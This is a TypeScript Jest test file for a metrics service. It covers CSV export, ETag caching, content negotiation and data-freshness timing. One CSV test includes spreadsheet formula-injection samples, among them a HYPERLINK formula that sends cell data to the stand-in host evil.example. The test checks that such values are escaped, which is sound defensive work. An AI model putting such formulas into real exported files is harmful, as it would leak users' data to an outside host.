import { afterEach, describe, expect, it, jest } from '@jest/globals';
import type { FastifyReply, FastifyRequest } from 'fastify';
import type { AppConfig } from '../../src/config/app-config.js';
import type { EtlSchedule } from '../../src/etl/load-schedule.js';
import type { MetricQuery } from '../../src/metrics/dto/metric-query.dto.js';
import type { LoadEvents } from '../../src/etl/load-events.js';
import type { MetricAnswer, MetricAnswers, MetricRequest } from '../../src/metrics/metric-answers.js';
import { sendAnswer, toCsv } from '../../src/metrics/metric-reply.js';
import type { Freshness, MetricsRepository } from '../../src/metrics/metrics.repository.js';
import { MetricsService, type SentAnswer } from '../../src/metrics/metrics.service.js';
import type { RollupSettingsCheck } from '../../src/metrics/rollup-settings-check.js';
import { Telemetry } from '../../src/observability/telemetry.js';

const answerOf = (overrides: Partial<MetricAnswer>): MetricAnswer => ({
  metric: 'installs',
  unit: 'count',
  from: '2026-11-01',
  to: '2026-11-03',
  granularity: 'day',
  timezone: 'UTC',
  filters: {},
  summary: { total: 0 },
  data: [],
  ...overrides,
});

describe(toCsv.name, () => {
  it('writes date,value for a count klip, one CRLF line per row', () => {
    const csv = toCsv(
      answerOf({
        summary: { total: 351 },
        data: [
          { date: '2026-11-01', value: 170 },
          { date: '2026-11-02', value: 181 },
          { date: '2026-11-03', value: 0 },
        ],
      }),
    );
    expect(csv).toBe('date,value\r\n2026-11-01,170\r\n2026-11-02,181\r\n2026-11-03,0\r\n');
  });

  it('leaves a null value (a session duration without sessions) empty, and keeps decimals', () => {
    const csv = toCsv(
      answerOf({
        metric: 'session-duration',
        unit: 'seconds',
        data: [
          { date: '2026-11-01', value: 398.5 },
          { date: '2026-11-02', value: null },
        ],
      }),
    );
    expect(csv).toBe('date,value\r\n2026-11-01,398.5\r\n2026-11-02,\r\n');
  });

  it.each(['dau', 'wau', 'mau', 'registrations'] as const)('writes date,value for %s', (metric) => {
    expect(toCsv(answerOf({ metric, data: [{ date: '2026-11-02', value: 2.5 }] }))).toBe('date,value\r\n2026-11-02,2.5\r\n');
  });

  it('writes channel,value for installs by channel without granularity', () => {
    const csv = toCsv(
      answerOf({
        metric: 'installs-by-channel',
        granularity: null,
        data: [
          { channel: 'Organic', value: 60 },
          { channel: 'Facebook Installs', value: 12 },
        ],
      }),
    );
    expect(csv).toBe('channel,value\r\nOrganic,60\r\nFacebook Installs,12\r\n');
  });

  it('writes date,channel,value for installs by channel with granularity', () => {
    const csv = toCsv(
      answerOf({
        metric: 'installs-by-channel',
        granularity: 'week',
        data: [
          { date: '2026-11-02', channel: 'Organic', value: 3 },
          { date: '2026-11-02', channel: 'Unknown', value: 0 },
        ],
      }),
    );
    expect(csv).toBe('date,channel,value\r\n2026-11-02,Organic,3\r\n2026-11-02,Unknown,0\r\n');
  });

  it('quotes channel names holding commas, quotes or line breaks, doubling the quotes (RFC 4180)', () => {
    const csv = toCsv(
      answerOf({
        metric: 'installs-by-channel',
        granularity: null,
        data: [
          { channel: 'Ads, Inc', value: 5 },
          { channel: 'The "Best" Ads', value: 3 },
          { channel: 'two\nlines', value: 2 },
          { channel: 'plain', value: 1 },
        ],
      }),
    );
    expect(csv).toBe('channel,value\r\n"Ads, Inc",5\r\n"The ""Best"" Ads",3\r\n"two\nlines",2\r\nplain,1\r\n');
  });

  it('writes a leading apostrophe before text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    const csv = toCsv(
      answerOf({
        metric: 'installs-by-channel',
        granularity: 'day',
        data: [
          { date: '2026-11-02', channel: '=HYPERLINK("http://evil.example/?q="&A1,"Click")', value: 9 },
          { date: '2026-11-02', channel: '@SUM(1+1)', value: 8 },
          { date: '2026-11-02', channel: '+1-555', value: 7 },
          { date: '2026-11-02', channel: '-2+3', value: 6 },
          { date: '2026-11-02', channel: '\tcmd', value: 5 },
          { date: '2026-11-02', channel: '\rcmd', value: 4 },
          { date: '2026-11-02', channel: 'Ads=Money@Home', value: 3 },
        ],
      }),
    );
    expect(csv.split('\r\n')).toEqual([
      'date,channel,value',
      `2026-11-02,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",9`,
      "2026-11-02,'@SUM(1+1),8",
      "2026-11-02,'+1-555,7",
      "2026-11-02,'-2+3,6",
      "2026-11-02,'\tcmd,5",
      `2026-11-02,"'\rcmd",4`,
      '2026-11-02,Ads=Money@Home,3',
      '',
    ]);
    expect(toCsv(answerOf({ metric: 'session-duration', data: [{ date: '2026-11-02', value: -0.5 }] }))).toBe(
      'date,value\r\n2026-11-02,-0.5\r\n',
    );
  });

  it('writes only the header line when there are no rows', () => {
    expect(toCsv(answerOf({ metric: 'installs-by-channel', granularity: null, data: [] }))).toBe('channel,value\r\n');
  });
});

// A reply that records what sendAnswer does with it.
class RecordedReply {
  headers: Record<string, string> = {};
  status = 200;
  contentType?: string;
  body?: unknown;
  sent = false;

  header(name: string, value: string) {
    this.headers[name.toLowerCase()] = value;
    return this;
  }
  code(status: number) {
    this.status = status;
    return this;
  }
  type(contentType: string) {
    this.contentType = contentType;
    return this;
  }
  send(body?: unknown) {
    this.sent = true;
    this.body = body;
    return this;
  }
}

const ETAG = 'W/"3-Abc_def-12345678"';
const sent: SentAnswer = (() => {
  const answer = answerOf({ summary: { total: 2 }, data: [{ date: '2026-11-01', value: 2 }] });
  return {
    request: { klip: 'installs', range: { from: '2026-11-01', to: '2026-11-01' }, granularity: 'day', filters: {}, today: '2026-11-02' },
    answer,
    json: JSON.stringify(answer),
    etag: ETAG,
    freshness: { dataThrough: '2026-11-01T09:50:00.000Z', lastLoadAt: '2026-11-01T09:51:12.000Z', stale: false },
    maxAgeSeconds: 321,
  };
})();

function send(headers: Record<string, string>, format?: 'json' | 'csv'): RecordedReply {
  const reply = new RecordedReply();
  sendAnswer({ headers } as unknown as FastifyRequest, reply as unknown as FastifyReply, sent, format);
  expect(reply.sent).toBe(true);
  return reply;
}

describe(sendAnswer.name, () => {
  it('sends the JSON answer with its freshness, ETag and Cache-Control', () => {
    const reply = send({});
    expect(reply.status).toBe(200);
    expect(reply.contentType).toMatch(/^application\/json/);
    expect(JSON.parse(reply.body as string)).toEqual({ ...sent.answer, freshness: sent.freshness });
    expect(reply.headers).toMatchObject({ etag: ETAG, 'cache-control': 'private, max-age=321', vary: 'Accept' });
  });

  it.each([
    ['the same weak tag', ETAG],
    ['its strong form (If-None-Match compares weakly)', '"3-Abc_def-12345678"'],
    ['a list holding it', '"other", W/"2-Abc_def-12345678", W/"3-Abc_def-12345678"'],
    ['a list without spaces', 'W/"1-x",W/"3-Abc_def-12345678"'],
    ['*', '*'],
    ['* in a list', '"other", *'],
  ])('answers 304 without a body to If-None-Match with %s', (_what, header) => {
    const reply = send({ 'if-none-match': header });
    expect(reply.status).toBe(304);
    expect(reply.body).toBeUndefined();
    expect(reply.headers).toMatchObject({ etag: ETAG, 'cache-control': 'private, max-age=321' });
  });

  it.each([
    ['an older version', 'W/"2-Abc_def-12345678"'],
    ['another request', 'W/"3-Xyz_def-12345678"'],
    ['a prefix of the tag', 'W/"3-Abc_def"'],
    ['the tag without its quotes', '3-Abc_def-12345678'],
    ['an empty header', ''],
  ])('answers 200 to If-None-Match with %s', (_what, header) => {
    expect(send({ 'if-none-match': header }).status).toBe(200);
  });

  it('gives the CSV its own ETag, and answers 304 to it', () => {
    const csv = send({}, 'csv');
    expect(csv.headers.etag).not.toBe(ETAG);
    expect(send({ 'if-none-match': csv.headers.etag }, 'csv').status).toBe(304);
    expect(send({ 'if-none-match': ETAG }, 'csv').status).toBe(200);
    expect(send({ 'if-none-match': csv.headers.etag }).status).toBe(200);
  });

  it('sends CSV for format=csv and for Accept: text/csv', () => {
    const accepts = ['text/csv', 'text/csv; charset=utf-8', 'TEXT/CSV', 'text/csv, */*', 'text/csv, application/json;q=0.9'];
    for (const reply of [send({}, 'csv'), ...accepts.map((accept) => send({ accept }))]) {
      expect(reply.status).toBe(200);
      expect(reply.contentType).toMatch(/^text\/csv/);
      expect(reply.body).toBe('date,value\r\n2026-11-01,2\r\n');
    }
  });

  it('lets format=json win over Accept: text/csv', () => {
    expect(send({ accept: 'text/csv' }, 'json').contentType).toMatch(/^application\/json/);
  });

  it.each(['application/json', '*/*', 'text/html,application/xhtml+xml,*/*;q=0.8', 'application/json, text/csv;q=0.5', 'text/csv;q=0'])(
    'sends JSON for Accept: %s',
    (accept) => {
      expect(send({ accept }).contentType).toMatch(/^application\/json/);
    },
  );
});

// The freshness and max-age each reply carries, on a fake clock: a service with fakes of the warehouse.
describe(MetricsService.name, () => {
  afterEach(() => {
    jest.useRealTimers();
  });

  async function answerAt(
    now: string,
    schedule: string | null,
    loadedAt: string | null,
    query: MetricQuery = { from: '2026-11-01', to: '2026-11-03' },
    timezone = 'UTC',
  ) {
    jest.useFakeTimers({ now: new Date(now), doNotFake: ['nextTick', 'setImmediate'] });
    const freshness: Freshness = { loadedAt, dataThrough: loadedAt, changedBy: loadedAt ? 7 : null, changedFrom: null };
    const service = new MetricsService(
      { etl: { schedule: scheduleOf(schedule) }, report: { timezone } } as AppConfig,
      { compute: async (request: MetricRequest) => answerOf({ metric: request.klip, ...request.range }) } as unknown as MetricAnswers,
      { freshness: async () => freshness } as unknown as MetricsRepository,
      {} as LoadEvents,
      {} as RollupSettingsCheck,
      new Telemetry(),
    );
    await service.checkVersion();
    return service.answer('installs', query);
  }

  // 'continuous' (every 10 s at most), a cron expression, or null: off
  function scheduleOf(schedule: string | null): EtlSchedule {
    if (schedule === null) return { kind: 'off' };
    return schedule === 'continuous' ? { kind: 'continuous', minIntervalSeconds: 10 } : { kind: 'cron', expression: schedule };
  }

  it('gives max-age as ETL_MIN_INTERVAL when loads are continuous', async () => {
    expect((await answerAt('2026-11-20T10:03:20Z', 'continuous', '2026-11-20T10:03:15Z')).maxAgeSeconds).toBe(10);
  });

  it('calls continuous data stale after two intervals, but never within a minute of the last load', async () => {
    const loadedAt = '2026-11-20T10:00:00.000Z';
    expect((await answerAt('2026-11-20T10:00:59Z', 'continuous', loadedAt)).freshness.stale).toBe(false);
    expect((await answerAt('2026-11-20T10:01:01Z', 'continuous', loadedAt)).freshness.stale).toBe(true);
  });

  it('gives max-age as the seconds to the next cron tick (UTC) and a minute for that load to finish', async () => {
    expect((await answerAt('2026-11-20T10:03:20Z', '*/10 * * * *', '2026-11-20T10:00:30Z')).maxAgeSeconds).toBe(400 + 60);
    expect((await answerAt('2026-11-20T10:09:59.500Z', '*/10 * * * *', '2026-11-20T10:00:30Z')).maxAgeSeconds).toBe(1 + 60);
    expect((await answerAt('2026-11-20T10:59:00Z', '0 * * * *', '2026-11-20T10:00:30Z')).maxAgeSeconds).toBe(60 + 60);
  });

  it('gives max-age 0 without a schedule', async () => {
    expect((await answerAt('2026-11-20T10:03:20Z', null, '2026-11-20T10:00:30Z')).maxAgeSeconds).toBe(0);
  });

  it('calls data stale once the last load is more than two schedule intervals old', async () => {
    const loadedAt = '2026-11-20T10:00:30.000Z';
    expect((await answerAt('2026-11-20T10:03:20Z', '*/10 * * * *', loadedAt)).freshness).toEqual({
      dataThrough: loadedAt,
      lastLoadAt: loadedAt,
      stale: false,
    });
    expect((await answerAt('2026-11-20T10:20:30Z', '*/10 * * * *', loadedAt)).freshness.stale).toBe(false);
    expect((await answerAt('2026-11-20T10:20:31Z', '*/10 * * * *', loadedAt)).freshness.stale).toBe(true);
    // an hourly schedule allows two hours
    expect((await answerAt('2026-11-20T11:59:00Z', '0 * * * *', loadedAt)).freshness.stale).toBe(false);
    expect((await answerAt('2026-11-20T12:01:00Z', '0 * * * *', loadedAt)).freshness.stale).toBe(true);
  });

  it('calls data stale before any load, and never after one without a schedule', async () => {
    expect((await answerAt('2026-11-20T10:03:20Z', '*/10 * * * *', null)).freshness).toEqual({
      dataThrough: null,
      lastLoadAt: null,
      stale: true,
    });
    expect((await answerAt('2026-11-20T10:03:20Z', null, null)).freshness.stale).toBe(true);
    expect((await answerAt('2026-12-20T10:03:20Z', null, '2026-11-20T10:00:30.000Z')).freshness.stale).toBe(false);
  });

  it('resolves periods and the default range on the calendar of the report time zone', async () => {
    const range = async (query: MetricQuery, timezone: string) => {
      const { from, to } = (await answerAt('2026-11-20T12:00:00Z', null, null, query, timezone)).answer;
      return { from, to };
    };
    // noon UTC on Friday 20 November is already Saturday the 21st in Auckland (UTC+13), still the 20th in Los Angeles
    expect(await range({ period: 'today' }, 'Pacific/Auckland')).toEqual({ from: '2026-11-21', to: '2026-11-21' });
    expect(await range({ period: 'today' }, 'America/Los_Angeles')).toEqual({ from: '2026-11-20', to: '2026-11-20' });
    expect(await range({ period: 'yesterday' }, 'Pacific/Auckland')).toEqual({ from: '2026-11-20', to: '2026-11-20' });
    expect(await range({}, 'Pacific/Auckland')).toEqual({ from: '2026-10-23', to: '2026-11-21' });
    // New Year's Eve in UTC is New Year's Day in Auckland
    const newYear = await answerAt('2026-12-31T12:00:00Z', null, null, { period: 'year_to_date' }, 'Pacific/Auckland');
    expect({ from: newYear.answer.from, to: newYear.answer.to }).toEqual({ from: '2027-01-01', to: '2027-01-01' });
  });

  it('tags an answer with the data version and a hash of the request', async () => {
    const tagged = await answerAt('2026-11-20T10:03:20Z', '*/10 * * * *', '2026-11-20T10:00:30.000Z');
    expect(tagged.etag).toMatch(/^W\/"7-[\w-]{16}"$/);
    expect(JSON.parse(tagged.json)).toEqual(answerOf({ from: '2026-11-01', to: '2026-11-03' }));
  });
});

describe(`${MetricsService.name} data version`, () => {
  it('reads the warehouse again for a check asked for while one runs, so a load committed meanwhile is seen', async () => {
    // the first read answers version 1 only once the second check has been asked for; the load
    // (version 2) commits in between
    const versions = [1, 2];
    let releaseFirst!: () => void;
    const firstRead = new Promise<void>((resolve) => (releaseFirst = resolve));
    let reads = 0;
    const repository = {
      freshness: async (): Promise<Freshness> => {
        const version = versions[reads++];
        if (version === 1) await firstRead;
        return { loadedAt: '2026-11-20T10:00:00.000Z', dataThrough: '2026-11-20T10:00:00.000Z', changedBy: version, changedFrom: null };
      },
    };
    const service = new MetricsService(
      { etl: { schedule: { kind: 'off' } }, report: { timezone: 'UTC' } } as unknown as AppConfig,
      { compute: async (request: MetricRequest) => answerOf({ metric: request.klip, ...request.range }) } as unknown as MetricAnswers,
      repository as unknown as MetricsRepository,
      {} as LoadEvents,
      {} as RollupSettingsCheck,
      new Telemetry(),
    );
    const periodic = service.checkVersion();
    const afterLoad = service.checkVersion();
    const another = service.checkVersion();
    releaseFirst();
    await Promise.all([periodic, afterLoad, another]);
    expect(reads).toBe(2);
    expect((await service.answer('installs', { from: '2026-11-01', to: '2026-11-03' })).etag).toMatch(/^W\/"2-/);
  });

  it('keeps the answers of ranges that end before the first day a load changed, and computes the others again', async () => {
    let freshness: Freshness = { loadedAt: '2026-11-20T10:00:00.000Z', dataThrough: null, changedBy: 1, changedFrom: null };
    const computed: string[] = [];
    const service = new MetricsService(
      { etl: { schedule: { kind: 'off' } }, report: { timezone: 'UTC' } } as unknown as AppConfig,
      {
        compute: async (request: MetricRequest) => {
          computed.push(`${request.range.from}…${request.range.to}`);
          return answerOf({ metric: request.klip, ...request.range });
        },
      } as unknown as MetricAnswers,
      { freshness: async () => freshness } as unknown as MetricsRepository,
      {} as LoadEvents,
      {} as RollupSettingsCheck,
      new Telemetry(),
    );
    await service.checkVersion();
    const october = { from: '2026-10-01', to: '2026-10-31' };
    const november = { from: '2026-11-01', to: '2026-11-19' };
    const before = { october: await service.answer('installs', october), november: await service.answer('installs', november) };
    expect(before.october.etag).toMatch(/^W\/"1-/);

    // a load (version 2) changed 5 November and later: October's answer stands, November's is computed again
    freshness = { ...freshness, changedBy: 2, changedFrom: '2026-11-05' };
    computed.length = 0;
    await service.checkVersion();
    expect(computed).toContain('2026-11-01…2026-11-19');
    expect(computed).not.toContain('2026-10-01…2026-10-31');
    expect((await service.answer('installs', october)).etag).toBe(before.october.etag);
    expect((await service.answer('installs', november)).etag).toMatch(/^W\/"2-/);

    // a rebuild may change any day: everything is computed again
    freshness = { ...freshness, changedBy: 3, changedFrom: null };
    computed.length = 0;
    await service.checkVersion();
    expect(computed).toContain('2026-10-01…2026-10-31');
    expect((await service.answer('installs', october)).etag).toMatch(/^W\/"3-/);
  });
});
